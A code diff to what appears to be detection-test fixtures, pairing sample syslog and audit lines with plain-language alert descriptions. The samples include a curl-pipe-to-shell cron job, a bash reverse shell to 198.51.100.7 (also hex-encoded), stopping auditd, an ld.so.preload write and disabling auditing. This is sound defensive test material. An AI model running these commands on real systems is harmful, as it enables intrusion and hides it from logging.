@@ -52,7 +52,7 @@ def syslog(minutes: float, said: str, facility: int = 10) -> bytes:
             "CRON: (root) CMD (curl -s http://198.51.100.7/a.sh | sh)",
             "Planned command fetches and runs something from the internet",
         ),
-        ("CRON: (root) CMD (bash -i >& /dev/tcp/198.51.100.7/44)", "Linux server opens its shell to somebody outside"),
+        ("CRON: (root) CMD (bash -i >& /dev/tcp/198.51.100.7/44)", "Linux server carries out commands of somebody outside"),
         (
             "sudo: anna : TTY=pts/0 ; PWD=/home/anna ; USER=root ; COMMAND=/usr/bin/systemctl stop auditd",
             "Guard of a Linux server switched off",
@@ -71,7 +71,7 @@ def syslog(minutes: float, said: str, facility: int = 10) -> bytes:
         ),
         (
             'audispd: type=PATH msg=audit(1795665816.145:41): item=1 name="/etc/ld.so.preload" nametype=CREATE',
-            "Library or module loaded into every program of Linux",
+            "Foreign code made part of every program on a Linux server",
         ),
         (
             'audispd: type=SYSCALL msg=audit(1795665816.145:42): arch=c000003e syscall=59 uid=33 comm="x" exe="/dev/shm/x"',
@@ -79,7 +79,7 @@ def syslog(minutes: float, said: str, facility: int = 10) -> bytes:
         ),
         (
             "audispd: type=EXECVE msg=audit(1795665816.145:43): argc=2 a0=-c a1=62617368202D69203E26202F6465762F7463702F3139382E35312E3130302E372F3434",
-            "Linux server opens its shell to somebody outside",
+            "Linux server carries out commands of somebody outside",
         ),
         (
             "audispd: type=CONFIG_CHANGE msg=audit(1795665816.145:44): op=set audit_enabled=0 old=1 auid=1000 res=1",
